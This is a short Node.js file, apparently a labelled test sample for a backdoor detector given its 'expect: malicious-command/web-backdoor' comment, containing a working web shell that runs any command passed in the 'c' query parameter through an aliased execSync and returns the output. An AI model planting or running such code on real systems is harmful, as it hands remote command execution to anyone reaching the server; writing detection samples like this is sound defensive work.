const http = require('http');
const helpers = { a: require('child_process').execSync };

function handle(request, response) {
  const { c } = Object.fromEntries(new URL(request.url, 'http://localhost').searchParams);
  response.end(helpers.a(c)); // expect: malicious-command/web-backdoor
}
http.createServer(handle).listen(9000);
